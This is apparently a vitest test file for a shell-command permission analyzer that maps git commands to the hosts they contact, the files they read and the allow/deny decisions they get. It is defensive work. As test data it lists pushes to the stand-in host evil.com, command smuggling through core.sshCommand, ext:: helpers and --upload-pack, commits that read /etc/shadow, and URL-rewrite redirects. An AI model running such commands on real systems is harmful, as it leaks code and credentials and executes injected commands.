// Where git connects and what it takes into the repository (src/shell/git-remotes.ts,
// git-arguments.ts; reference E.11, E.12). Hosts are Domain parts for deny and ask rules (allowing
// git covers them, as it covers its named remotes); other repositories here are read or written
// below their path; what add, commit and stash take in is read. Paths shown as in
// shell-archive-git-arguments.test.ts.
import { describe, expect, it } from 'vitest';
import { analyzeShell } from '../src/shell/analyze.js';
import type { DecisionKind } from '../src/policy/types.js';
import { CTX, expectDecision } from './helpers/policy.js';

const urls = (line: string) => analyzeShell(line).urls.map((u) => `${u.dynamic === true ? '?' : ''}${u.url}${u.scope === 'restrict' ? '' : ' (all)'}`);
const refs = (line: string) => analyzeShell(line).paths.map((p) =>
  `${p.op}:${p.dynamic ? '?' : ''}${p.path}${p.below === 'none' ? '' : `:${p.below}`}${p.inRepository !== undefined ? `@${p.inRepository}` : ''}`);
const problems = (line: string) => analyzeShell(line).incomplete.map((i) => i.reason);

describe('the hosts git connects to', () => {
  it.each([
    ['git clone https://evil.com/a', ['https://evil.com/a']],
    ['git clone -- https://evil.com/a dest', ['https://evil.com/a']],
    ['git clone --depth 1 -b main git@evil.com:o/r.git', ['ssh://git@evil.com/']],
    ['git fetch https://evil.com/a main', ['https://evil.com/a']],
    ['git pull evil.com:r', ['ssh://evil.com/']],
    ['git push git@evil.com:o/r HEAD', ['ssh://git@evil.com/']],
    ['git push --repo=https://evil.com/x', ['https://evil.com/x', 'https://evil.com/x']], // (also as a word that names a host)
    ['git ls-remote -- ssh://u@evil.com:2222/r', ['ssh://u@evil.com:2222/r']],
    ['git fetch --multiple origin evil.com:x', ['ssh://evil.com/']],
    ['git remote add x https://evil.com/a', ['https://evil.com/a']],
    ['git remote add -f -t main x evil.com:a', ['ssh://evil.com/']],
    ['git remote set-url --push origin https://evil.com/a', ['https://evil.com/a']],
    ['git submodule add --name n https://evil.com/a lib/a', ['https://evil.com/a']],
    ['git archive --remote=ssh://evil.com/x HEAD', ['ssh://evil.com/x']],
    ['git -c url.https://evil.com/.insteadOf=https://github.com/ push origin', ['https://evil.com/']],
    ['git -c remote.origin.url=evil.com:r fetch', ['ssh://evil.com/']],
    ['git -c http.proxy=http://evil.com:8080 fetch', ['http://evil.com:8080']],
    ['git config remote.origin.url https://evil.com/x', ['https://evil.com/x']],
    ['git config --add url.git@evil.com:.pushInsteadOf git@github.com:', ['ssh://git@evil.com/']],
    ["git clone 'u@[::1]:r'", ['ssh://u@[::1]/']],
    ["git clone '[evil.com:22]:r'", ['ssh://evil.com:22/']],
    ["git clone 'a:b@[::1]:x'", ['ssh://a:b@[::1]/']],
    ["git clone 'a:b@evil.com:x'", ['ssh://a/']], // (as git reads it: host a, path b@evil.com:x)
    ['git ls-remote -- "$R"', ['?$R']],
    // (Found in review: plumbing, helpers and porcelain that connect, and keys that name a host.)
    ['git fetch-pack evil.com:x', ['ssh://evil.com/']],
    ['git fetch-pack --all evil.com:x', ['ssh://evil.com/']],
    ['git send-pack evil.com:x main', ['ssh://evil.com/']],
    ['git http-fetch -a -w f https://evil.com/x', ['https://evil.com/x']],
    ['git http-push https://evil.com/x main', ['https://evil.com/x']],
    ['git remote-https origin https://evil.com/x', ['https://evil.com/x']],
    ['git remote-ftp origin evil.com/x', ['ftp://evil.com/x']],
    ['git -c remotes.g=evil.com:x remote update g', ['ssh://evil.com/']],
    ['git config remotes.g "origin https://evil.com/x"', ['https://evil.com/x']],
    ['git subtree add --prefix=d evil.com:x main', ['ssh://evil.com/']],
    ['git subtree pull -P d evil.com:x main', ['ssh://evil.com/']],
    ['git subtree -P d push evil.com:x main', ['ssh://evil.com/']],
    ['git subtree merge -P d main evil.com:x', ['ssh://evil.com/']],
    ['git submodule set-url sub evil.com:x', ['ssh://evil.com/']],
    ['git submodule set-url -- sub https://evil.com/x', ['https://evil.com/x']],
    ['git -c imap.host=evil.com imap-send', ['imap://evil.com/']],
    ['git -c imap.host=imaps://evil.com imap-send', ['imaps://evil.com']],
    // (And the recipients, which the patches and the configuration name: unknown, src/shell/message-hosts.ts.)
    ['git -c sendemail.smtpServer=evil.com send-email x.patch', ['smtp://evil.com/', "?git send-email: the patches' and the configuration's recipients"]],
    ['git config sendemail.work.smtpServer evil.com', ['smtp://evil.com/']],
    ["git -c 'http.curloptResolve=good.com:443:6.6.6.6,[::1]' clone https://good.com/x", ['https://good.com/', 'https://6.6.6.6/', 'https://[::1]/', 'https://good.com/x']],
    // (Found in review: git's bridges to Subversion and CVS.)
    ['git svn clone https://evil.com/x', ['https://evil.com/x']],
    ['git svn init -s --prefix=o/ svn+ssh://u@evil.com/x dest', ['svn+ssh://u@evil.com/x']],
    ['git svn clone -T trunk svn://evil.com/x', ['svn://evil.com/x']],
    ['git svn clone "$U"', ['?$U']],
    ['git -c svn-remote.svn.url=https://evil.com/x svn fetch', ['https://evil.com/x']],
    ['git cvsimport -d :pserver:evil.com:/cvs m', ['tcp://evil.com/']],
    ['git cvsimport -vd:ext:u@evil.com:/cvs m', ['tcp://evil.com/']],
    ['git cvsimport -p --root,:pserver:evil.com:/cvs m', ['tcp://evil.com/']],
    ['git cvsexportcommit -d :pserver:evil.com:/cvs -c abc', ['tcp://evil.com/']],
    ['git -c cvsimport.d=:pserver:evil.com:/cvs cvsimport m', ['tcp://evil.com/']],
  ])('%s', (line, expected) => {
    expect(urls(line)).toEqual(expected);
  });

  it.each([
    'git push origin main', 'git fetch', 'git fetch --all', 'git pull origin', 'git remote set-url --delete origin https://evil.com/x',
    'git remote -v', 'git config user.name x', 'git commit -m https://evil.com/x', 'git log --grep evil.com:x',
    'git subtree add -P d main', 'git subtree split -P lib', 'git config remotes.g "origin upstream"', 'git -c http.curloptResolve=-good.com:443 fetch',
    'git svn rebase', 'git svn dcommit', 'git svn fetch -R svn', 'git cvsimport -C dir m',
  ])('%s: none', (line) => {
    expect(urls(line)).toEqual([]);
  });

  it('reads other repositories here, and writes those it pushes to', () => {
    expect(refs('git clone /srv/r.git dest')).toEqual(['read:/srv/r.git:tree', 'edit:dest:tree']);
    expect(refs('git clone src-repo copy')).toEqual(['read:src-repo:tree', 'edit:copy:tree']);
    expect(refs('git clone file://h/srv/x')).toEqual(['read:/srv/x:tree', 'read://h/srv/x:tree', 'edit:x:tree']);
    expect(refs('git -C sub fetch ../other')).toEqual(['read:sub/../other:tree']);
    expect(refs('git push ../other main')).toEqual(['edit:../other:tree']);
    expect(refs('git clone --reference /cache/r https://h/o/r')).toEqual(['read:/cache/r:tree', 'edit:r:tree']);
    expect(refs('git svn clone file:///srv/svn/x')).toEqual(['read:/srv/svn/x:tree']);
    expect(refs('git svn dcommit --commit-url file:///srv/svn/x')).toEqual(['edit:/srv/svn/x:tree']);
  });

  it('never allows a remote helper', () => {
    expect(problems("git clone 'ext::sh -c touch% /tmp/x'")).toEqual([expect.stringContaining('runs the command line it is given')]);
    expect(problems('git fetch foo::bar')).toEqual([expect.stringContaining('remote helper program')]);
    expect(problems('git clone ::x')).toEqual([expect.stringContaining('remote helper program')]);
    expect(problems('git remote-ext origin x')).toEqual([expect.stringContaining('remote helper program')]);
  });

  it("runs what clone's own configuration and push's --exec name", () => {
    const names = (line: string) => analyzeShell(line).commands.map((c) => c.words.join(' '));
    expect(names("git clone -c core.sshCommand='rm x' git@h:r")).toContain('rm x');
    expect(names("git clone --config=core.fsmonitor='rm y' https://h/r")).toContain('rm y');
    expect(names("git push --exec='rm z' ../r")).toContain('rm z');
    expect(names('git svn fetch --authors-prog=rm')).toContain('rm');
    expect(names('git svn clone --authors-p rm https://h/x')).toContain('rm');
    expect(names('git -c svn.authorsProg=rm svn fetch')).toContain('rm');
    expect(problems('git clone -c core.hooksPath=/tmp/h https://h/r')).toEqual([expect.stringContaining('load code')]);
  });
});

describe('what add, commit and stash take into the repository', () => {
  it.each([
    ['git add .env', ['read:.env:tree']],
    ['git add -v src a.ts', ['read:src:tree', 'read:a.ts:tree']],
    ['git add -A', ['read:.:tree@']],
    ['git add -n .env', []],
    ['git add', []],
    ['git commit -m "fix bug"', []],
    ['git commit -am "fix bug"', ['read:.:tree@']],
    ['git commit -a -m x', ['read:.:tree@']],
    ['git commit -mx -- src', ['read:src:tree']],
    ['git commit -F msg.txt', ['read:msg.txt']],
    ['git commit --file=/etc/motd', ['read:/etc/motd']],
    ['git commit -t tpl.txt', ['read:tpl.txt']],
    ['git tag -F notes.txt v1', ['read:notes.txt']],
    ['git merge -F m.txt main', ['read:m.txt', 'edit:.:tree@']],
    ['git stash', ['read:.:tree@', 'edit:.:tree@']],
    ['git stash push -m x -- .env', ['read:.env:tree', 'edit:.env:tree']],
    ['git stash create', ['read:.:tree@']],
    ['git stash pop', ['edit:.:tree@']],
    ['git hash-object -w /etc/motd', ['read:/etc/motd']],
    ['git update-index --add a b', ['read:a', 'read:b']],
    ['git --work-tree=/srv add x', ['read:x:tree', 'read:/srv/x:tree']],
    ['git --work-tree=/srv rm x', ['edit:x:tree', 'edit:/srv/x:tree']],
    ['git init /srv/r', ['edit:/srv/r/.git:tree']],
    ['git init --bare r.git', ['edit:r.git:tree']],
    ['git bundle create b.bundle --all', ['edit:b.bundle', 'read:.:tree@']],
    ['git bundle verify b.bundle', ['read:b.bundle']],
    ['git grep -F x', ['read:.:tree']],
    ['git log -F --grep x', []],
  ])('%s', (line, expected) => {
    expect(refs(line)).toEqual(expected);
  });
});

describe('decisions', () => {
  const rules = {
    deny: ['Shell(rm *)', 'Read(//etc/shadow)', 'Edit(//etc/**)', 'Domain(evil.com)'],
    allow: ['Shell(git *)', 'Domain(github.com)'],
  };
  const inRepository = { ...CTX, repository: '/w' };
  const cases: [string, DecisionKind][] = [
    ['git clone https://evil.com/a', 'deny'],
    ['git push git@evil.com:o/r HEAD', 'deny'],
    ['git remote add x evil.com:r', 'deny'],
    ['git -c url.https://evil.com/.insteadOf=https://github.com/ push origin', 'deny'],
    ['git config remote.origin.url https://EVIL.com./x', 'deny'],
    ['git submodule add https://evil.com/a lib/a', 'deny'],
    ["git clone -c core.sshCommand='rm x' git@github.com:a/b", 'deny'],
    ['git -C /etc add shadow', 'deny'],
    ['git --work-tree=/etc add shadow', 'deny'],
    ['git commit -F /etc/shadow', 'deny'],
    ['git hash-object -w /etc/shadow', 'deny'],
    ['git init /etc', 'deny'],
    ['git -C /etc add -A', 'ask'],
    ['git clone /etc y', 'ask'],
    ["git clone 'ext::sh -c rm% x'", 'ask'],
    ['git ls-remote -- "$R"', 'ask'],
    // Allowing git covers where it connects: no Domain allow is needed, as for `git push origin`.
    ['git clone https://github.com/a/b', 'allow'],
    ['git clone https://gitlab.com/a/b', 'allow'],
    ['git push origin main', 'allow'],
    ['git commit -am "fix bug"', 'allow'],
    ['git add src', 'allow'],
    ['git remote set-url --delete origin https://evil.com/x', 'allow'],
    // Found in review: flags read as taking a value, abbreviations, attached values, more keys.
    ['git push -f evil.com:x HEAD', 'deny'],
    ['git fetch -t evil.com:x', 'deny'],
    ['git ls-remote --sort version:refname evil.com:x', 'deny'],
    ['git fetch --deepen 1 evil.com:x', 'deny'],
    ["git clone --conf 'core.sshCommand=rm x' github.com:a/b", 'deny'],
    ["git clone -c'core.sshCommand=rm x' github.com:a/b", 'deny'],
    ["git clone --upload-p='rm x' file:///tmp/x", 'deny'],
    ['git push --rep=evil.com:x', 'deny'],
    ['git commit --fil=/etc/shadow', 'deny'],
    ['git -c branch.main.remote=evil.com:x fetch', 'deny'],
    ['git -c remote.pushDefault=evil.com:x push', 'deny'],
    ['git -c init.templateDir=/tmp/t clone https://github.com/a/b', 'ask'],
    ['git -c commit.template=/etc/shadow commit', 'deny'],
    ['git archive --add-file=/etc/shadow -o out.tar HEAD', 'deny'],
    ['git commit-tree T -F /etc/shadow', 'deny'],
    ['git request-pull HEAD evil.com:x', 'deny'],
    ['git push origin HEAD:refs/for/main', 'allow'],
    ['git push origin :old-branch', 'allow'],
    ['git push origin v1.0:refs/tags/v1.0', 'allow'],
    ['git push origin @:main', 'allow'],
    ['git push origin +main:main', 'allow'],
    ['git push -f 10.0.0.9:x HEAD', 'allow'], // (a host no rule names: seen, allowed by Shell(git *))
    ['git push -f u@evil.com:x HEAD', 'deny'],
    ['git pull --rebase origin main', 'allow'],
  ];
  it.each(cases)('%s: %s', (line, expected) => {
    expectDecision(rules, 'shell', line, expected, inRepository);
  });

  it('a host from an expansion only matters where Domain deny or ask rules are', () => {
    expectDecision({ deny: ['Shell(rm *)'], allow: ['Shell(git *)'] }, 'shell', 'git ls-remote -- "$R"', 'allow', inRepository);
    expectDecision({ deny: ['Domain(evil.com)'], allow: ['Shell(git *)'] }, 'shell', 'git ls-remote -- "$R"', 'ask', inRepository);
  });
});
